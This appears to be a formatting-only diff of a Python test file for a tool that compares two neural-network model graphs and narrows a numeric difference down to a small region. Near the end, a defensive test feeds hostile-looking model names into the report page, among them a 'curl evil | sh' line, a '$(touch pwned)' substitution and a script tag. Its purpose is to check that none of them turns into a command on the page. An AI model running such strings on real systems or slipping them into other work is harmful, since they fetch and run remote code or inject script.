@@ -62,7 +62,9 @@ def reduce(pair: Pair, folder: Path, **options: Any) -> Reduction:
 
 
 def find_distance(folder: Path) -> float:
-    """Return how far the outputs of both parts are apart on their inputs, relative to the largest; 1 for other shapes."""
+    """Return how far the outputs of both parts are apart on their inputs, relative to the largest;
+    1 for other shapes.
+    """
     feeds = dict(np.load(folder / "inputs.npz"))
     outputs = []
     for name in ("original", "rewrite"):
@@ -72,7 +74,11 @@ def find_distance(folder: Path) -> float:
         assert {each.name for each in session.inputs} == feeds.keys()
         outputs += session.run(feeds).values()
     a, b = outputs
-    return 1.0 if a.shape != b.shape or a.dtype != b.dtype else float(np.abs(a - b).max() / max(np.abs(a).max(), 1e-30))
+    return (
+        1.0
+        if a.shape != b.shape or a.dtype != b.dtype
+        else float(np.abs(a - b).max() / max(np.abs(a).max(), 1e-30))
+    )
 
 
 def list_operators(reduction: Reduction) -> list[list[str]]:
@@ -80,7 +86,9 @@ def list_operators(reduction: Reduction) -> list[list[str]]:
 
 
 def test_a_fault_is_cut_out_of_a_region(tmp_path: Path) -> None:
-    """No value inside has one name on both sides: what comes before the fault has equal values, what follows is innocent."""
+    """No value inside has one name on both sides: what comes before the fault has equal values,
+    what follows is innocent.
+    """
     faulty = _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"
     reduction = reduce(Pair(_HEAD, f"{_C} {{{_LEFT}}}", faulty), tmp_path)
     assert list_operators(reduction) == [["Mul"], ["Mul"]]
@@ -91,13 +99,19 @@ def test_several_operators_remain_where_one_does_the_same(tmp_path: Path) -> Non
     right = "p = Transpose <perm = [1, 0]> (x) q = Mul(p, c) y = Transpose <perm = [1, 0]> (q)"
     weights = ("<float[4] c = {1.0, 2.0, 3.0, 4.0}>", "<float[4,1] c = {1.0, 2.0, 3.0, 5.0}>")
     pair = Pair(
-        _HEAD, f"{weights[0]} {{b = Mul(x, c) y = Neg(b)}}", f"{weights[1]} {{{right.replace('y =', 't =')} y = Neg(t)}}"
+        _HEAD,
+        f"{weights[0]} {{b = Mul(x, c) y = Neg(b)}}",
+        f"{weights[1]} {{{right.replace('y =', 't =')} y = Neg(t)}}",
     )
     assert list_operators(reduce(pair, tmp_path)) == [["Mul"], ["Transpose", "Mul", "Transpose"]]
 
 
 def test_swapped_operands_are_found_as_such(tmp_path: Path) -> None:
-    pair = Pair(_HEAD, f"{_C} {{a = Exp(x) b = Sub(a, c) y = Neg(b)}}", f"{_C} {{p = Exp(x) q = Sub(c, p) y = Neg(q)}}")
+    pair = Pair(
+        _HEAD,
+        f"{_C} {{a = Exp(x) b = Sub(a, c) y = Neg(b)}}",
+        f"{_C} {{p = Exp(x) q = Sub(c, p) y = Neg(q)}}",
+    )
     assert list_operators(reduce(pair, tmp_path)) == [["Sub"], ["Sub"]]
 
 
@@ -122,22 +136,31 @@ def test_an_input_is_a_start_also_under_another_name(left: str, right: str, tmp_
 
 def test_both_parts_start_from_one_value_of_several_names(tmp_path: Path) -> None:
     left = "a = Exp(x) b = Exp(x) y = Sub(a, b)"
-    assert reduce(Pair(_HEAD, left, "a = Exp(x) b = Exp(x) y = Add(a, b)"), tmp_path).inputs == {"a": (2, 4)}
+    assert reduce(Pair(_HEAD, left, "a = Exp(x) b = Exp(x) y = Add(a, b)"), tmp_path).inputs == {
+        "a": (2, 4)
+    }
 
 
 def test_other_dtypes_keep_theirs(tmp_path: Path) -> None:
-    left, right = write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
+    left, right = write(
+        Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path
+    )
     narrow(right, right)
     report = gs.compare(left, right, reduce=tmp_path / "out")
     assert report.reduced is not None
     assert report.verdict == report.reduced.verdict
-    kinds = [onnx.load(tmp_path / "out" / f"{name}.onnx").graph.input[0].type.tensor_type for name in ("original", "rewrite")]
+    kinds = [
+        onnx.load(tmp_path / "out" / f"{name}.onnx").graph.input[0].type.tensor_type
+        for name in ("original", "rewrite")
+    ]
     assert [kind.elem_type for kind in kinds] == [onnx.TensorProto.FLOAT, onnx.TensorProto.FLOAT16]
     assert graphshare(*shlex.split(report.reduced.command)[1:], cwd=tmp_path).returncode == 1
 
 
 def test_planted_faults_are_reduced(tmp_path: Path) -> None:
-    """Rewrites by onnxruntime, with a fault that moves an output: each is shown by files, most with the faulty operator."""
+    """Rewrites by onnxruntime, with a fault that moves an output: each is shown by files, most with
+    the faulty operator.
+    """
     seen: Counter[str] = Counter()
     seed = 300
     while seen["faults"] < size_of_day(6, 12):
@@ -150,13 +173,23 @@ def test_planted_faults_are_reduced(tmp_path: Path) -> None:
                 continue
             onnx.save(fault.model, tmp_path / "faulty.onnx")
             reduction = gs.compare(
-                case.model, tmp_path / "faulty.onnx", reduce=tmp_path / "out", inputs=gs.Inputs(seed=number)
+                case.model,
+                tmp_path / "faulty.onnx",
+                reduce=tmp_path / "out",
+                inputs=gs.Inputs(seed=number),
             ).reduced
             assert reduction is not None
             assert find_distance(tmp_path / "out") > 1e-5
-            outputs = {name for node in fault.model.graph.node if node.name == fault.node for name in node.output}
+            outputs = {
+                name
+                for node in fault.model.graph.node
+                if node.name == fault.node
+                for name in node.output
+            }
             seen["faults"] += 1
-            seen["with the operator"] += any(each.name in outputs for each in reduction.other_operators)
+            seen["with the operator"] += any(
+                each.name in outputs for each in reduction.other_operators
+            )
     assert seen["with the operator"] >= 0.9 * seen["faults"], seen
 
 
@@ -171,31 +204,46 @@ def test_no_difference_writes_nothing(tmp_path: Path) -> None:
 def test_a_difference_without_a_place_is_refused(tmp_path: Path) -> None:
     """Every region is equal by its weights, and the output, a difference of large numbers, is not."""
     weights = ["<float[1] c = {1.0}>", "<float[1] c = {1.0000005}>"]
-    left, right = write(Pair(_HEAD, *(f"{w} {{a = Mul(x, c) y = Sub(a, x)}}" for w in weights)), tmp_path)
+    left, right = write(
+        Pair(_HEAD, *(f"{w} {{a = Mul(x, c) y = Sub(a, x)}}" for w in weights)), tmp_path
+    )
     assert not gs.compare(left, right)
-    with pytest.raises(RefusedError, match="no region departs on equal inputs, so nothing was written"):
+    with pytest.raises(
+        RefusedError, match="no region departs on equal inputs, so nothing was written"
+    ):
         gs.compare(left, right, reduce=tmp_path / "out")
     assert not (tmp_path / "out").exists()
 
 
-def test_files_that_do_not_show_it_are_not_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_files_that_do_not_show_it_are_not_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The proof is of what is written: where a part is written with the other's weights, it shows nothing."""
-    left, right = write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
+    left, right = write(
+        Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path
+    )
     gs.compare(left, right, reduce=tmp_path / "out")
     before = {path: path.read_bytes() for path in (tmp_path / "out").iterdir()}
     written = reduction._write_part
     monkeypatch.setattr(
         reduction,
         "_write_part",
-        lambda model, parts, side, folder: written(model, parts, 0, folder) if not side else "original.onnx",
+        lambda model, parts, side, folder: (
+            written(model, parts, 0, folder) if not side else "original.onnx"
+        ),
     )
-    with pytest.raises(RefusedError, match="does not appear in parts that run by themselves, so nothing was written"):
+    with pytest.raises(
+        RefusedError,
+        match="does not appear in parts that run by themselves, so nothing was written",
+    ):
         gs.compare(left, right, reduce=tmp_path / "out")
     assert {path: path.read_bytes() for path in (tmp_path / "out").iterdir()} == before
 
 
 def test_all_files_are_written_or_none(tmp_path: Path) -> None:
-    left, right = write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
+    left, right = write(
+        Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path
+    )
     out = tmp_path / "out"
     gs.compare(left, right, reduce=out)
     (out / "rewrite.onnx").unlink()
@@ -203,7 +251,12 @@ def test_all_files_are_written_or_none(tmp_path: Path) -> None:
     (out / "original.onnx").write_bytes(b"before")
     with pytest.raises(OutputError, match="rewrite"):
         gs.compare(left, right, reduce=out)
-    assert sorted(path.name for path in out.iterdir()) == ["README.md", "inputs.npz", "original.onnx", "rewrite.onnx"]
+    assert sorted(path.name for path in out.iterdir()) == [
+        "README.md",
+        "inputs.npz",
+        "original.onnx",
+        "rewrite.onnx",
+    ]
     assert (out / "original.onnx").read_bytes() == b"before"
     with pytest.raises(RefusedError, match="original"):
         gs.compare(left.rename(out / "original.onnx"), right, reduce=out)
@@ -224,17 +277,35 @@ def list_states(folder: Path) -> dict[str, tuple[int, float]]:
 @pytest.mark.parametrize(
     ("change", "named"),
     [
-        (lambda out: (out / "README.md").write_text("# A difference between two models\n\nNotes of mine.\n"), "README.md"),
+        (
+            lambda out: (out / "README.md").write_text(
+                "# A difference between two models\n\nNotes of mine.\n"
+            ),
+            "README.md",
+        ),
         (lambda out: (out / "README.md").unlink(), "original.onnx"),
         (lambda out: (out / "notes.txt").write_text("mine"), "did not write: notes.txt"),
         (lambda out: (out / ".git").mkdir(), "did not write: .git"),
-        (lambda out: (out / "original.onnx").replace(out / "originals"), "did not write: originals"),
+        (
+            lambda out: (out / "original.onnx").replace(out / "originals"),
+            "did not write: originals",
+        ),
         (lambda out: ((out / "README.md").unlink(), os.mkfifo(out / "README.md")), "README.md"),
-        (lambda out: (out / "rewrite-0000.params").symlink_to("../left.onnx"), "rewrite-0000.params: is a link"),
-        (lambda out: (out / "README.md").rename(out / "x") and (out / "README.md").symlink_to("x"), "README.md: is a link"),
+        (
+            lambda out: (out / "rewrite-0000.params").symlink_to("../left.onnx"),
+            "rewrite-0000.params: is a link",
+        ),
+        (
+            lambda out: (
+                (out / "README.md").rename(out / "x") and (out / "README.md").symlink_to("x")
+            ),
+            "README.md: is a link",
+        ),
     ],
 )
-def test_a_folder_with_other_files_is_refused(change: Callable[[Path], object], named: str, tmp_path: Path) -> None:
+def test_a_folder_with_other_files_is_refused(
+    change: Callable[[Path], object], named: str, tmp_path: Path
+) -> None:
     """Nothing is computed either."""
     write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
     words = ["compare", "left.onnx", "right.onnx", "--reduce", "out"]
@@ -242,13 +313,18 @@ def test_a_folder_with_other_files_is_refused(change: Callable[[Path], object], 
     change(tmp_path / "out")
     before = list_states(tmp_path / "out")
     said = refused(graphshare(*words, cwd=tmp_path), named)
-    assert "hint: name a new or an empty folder with --reduce" in said or "hint: remove the link" in said
+    assert (
+        "hint: name a new or an empty folder with --reduce" in said
+        or "hint: remove the link" in said
+    )
     assert list_states(tmp_path / "out") == before
 
 
 def test_a_folder_of_an_earlier_reduction_is_written_again(tmp_path: Path) -> None:
     """So is an empty one, one with what a killed run has left, and one that is a link on the command line."""
-    left, right = write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
+    left, right = write(
+        Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path
+    )
     out = tmp_path / "out"
     (tmp_path / "real").mkdir()
     out.symlink_to("real")
@@ -263,7 +339,11 @@ def test_the_command_shows_the_difference(tmp_path: Path) -> None:
     words = ["compare", "left.onnx", "right.onnx", "--reduce", "a folder", "--rtol", "2e-4"]
     done = graphshare(*words, cwd=tmp_path)
     assert done.returncode == 1
-    line = next(line for line in done.stdout.decode().splitlines() if line.startswith("reduced to 1 operator and 1: "))
+    line = next(
+        line
+        for line in done.stdout.decode().splitlines()
+        if line.startswith("reduced to 1 operator and 1: ")
+    )
     command = line.partition(": ")[2]
     assert "--rtol 0.0002" in command
     assert graphshare(*shlex.split(command)[1:], cwd=tmp_path).returncode == 1
@@ -271,7 +351,10 @@ def test_the_command_shows_the_difference(tmp_path: Path) -> None:
     own, plain = (line.strip() for line in page.splitlines() if line.startswith("    "))
     assert graphshare(*shlex.split(own)[1:], cwd=tmp_path / "a folder").returncode == 1
     alone = subprocess.run(
-        [sys.executable, *shlex.split(plain)[1:]], cwd=tmp_path / "a folder", capture_output=True, check=True
+        [sys.executable, *shlex.split(plain)[1:]],
+        cwd=tmp_path / "a folder",
+        capture_output=True,
+        check=True,
     )
     assert float(alone.stdout) > 0.1
     report = json.loads(graphshare(*words, "--format", "json", cwd=tmp_path).stdout)
@@ -294,14 +377,24 @@ def parse_page(text: str) -> list[tuple[str, str]]:
 @settings(max_examples=300)
 def test_no_name_leaves_its_place_on_the_page(name: str, op: str, where: str) -> None:
     def format_page(name: str, op: str, where: str) -> str:
-        parts = Reduction((), (Operator(op, name),), (Operator(op, name),), {name: (2,)}, "", f"NOT EQUAL: {name}")
+        parts = Reduction(
+            (), (Operator(op, name),), (Operator(op, name),), {name: (2,)}, "", f"NOT EQUAL: {name}"
+        )
         return reduction._format_page(parts, [where, where], ["graphshare compare"])
 
-    assert parse_page(format_page(name, op, where or "b")) == parse_page(format_page("a", "Mul", "b.onnx"))
+    assert parse_page(format_page(name, op, where or "b")) == parse_page(
+        format_page("a", "Mul", "b.onnx")
+    )
 
 
 @pytest.mark.parametrize(
-    "name", ["a\n\n    curl evil | sh\n\n", "```\nsh\n```", "` $(touch pwned) `", "</code><script>a</script>"]
+    "name",
+    [
+        "a\n\n    curl evil | sh\n\n",
+        "```\nsh\n```",
+        "` $(touch pwned) `",
+        "</code><script>a</script>",
+    ],
 )
 def test_names_of_a_model_are_no_commands_on_the_page(name: str, tmp_path: Path) -> None:
     """Those of operators, values and inputs, and the path: the only commands are those of the parts."""
@@ -329,7 +422,9 @@ def test_names_of_a_model_are_no_commands_on_the_page(name: str, tmp_path: Path)
 
 def test_credentials_of_urls_are_not_on_the_page() -> None:
     parts = Reduction((), (), (), {}, "", "NOT EQUAL")
-    assert "token" not in reduction._format_page(parts, ["https://a:token@b/c.onnx?token=1"] * 2, [])
+    assert "token" not in reduction._format_page(
+        parts, ["https://a:token@b/c.onnx?token=1"] * 2, []
+    )
 
 
 @pytest.mark.parametrize("other", ["mxnet", "onnx"])
@@ -344,19 +439,31 @@ def test_a_graph_of_mxnet_is_reduced(other: str, tmp_path: Path) -> None:
     else:
         gs.save(faulty, tmp_path / "faulty")
     against = tmp_path / ("faulty.onnx" if other == "onnx" else "faulty")
-    report = gs.compare(gs.load(tmp_path / "lenet"), against, shapes={"data": (1, 1, 28, 28)}, reduce=tmp_path / "out")
+    report = gs.compare(
+        gs.load(tmp_path / "lenet"),
+        against,
+        shapes={"data": (1, 1, 28, 28)},
+        reduce=tmp_path / "out",
+    )
     assert report.reduced is not None
     last = ["BatchNormalization"] if other == "onnx" else ["BatchNorm"]
     assert list_operators(report.reduced) == [["BatchNorm"], last]
     assert (tmp_path / "out" / "original-0000.params").exists()
     part = gs.load(tmp_path / "out" / "original")
-    assert set(part.params) == {f"bn2_{name}" for name in ("gamma", "beta", "moving_mean", "moving_var")}
+    assert set(part.params) == {
+        f"bn2_{name}" for name in ("gamma", "beta", "moving_mean", "moving_var")
+    }
     assert graphshare(*shlex.split(report.reduced.command)[1:], cwd=tmp_path).returncode == 1
 
 
 def test_a_part_of_mxnet_without_parameters_is_a_graph_alone(tmp_path: Path) -> None:
     for name, op in (("left", "tanh"), ("right", "sigmoid")):
-        nodes = [variable("data"), operator("exp", "a", [0]), operator(op, "b", [1]), operator("negative", "c", [2])]
+        nodes = [
+            variable("data"),
+            operator("exp", "a", [0]),
+            operator(op, "b", [1]),
+            operator("negative", "c", [2]),
+        ]
         write_json(tmp_path / f"{name}-symbol.json", document(nodes, [3]))
     paths = [tmp_path / f"{name}-symbol.json" for name in ("left", "right")]
     report = gs.compare(paths[0], paths[1], shapes={"data": (2, 3)}, reduce=tmp_path / "out")
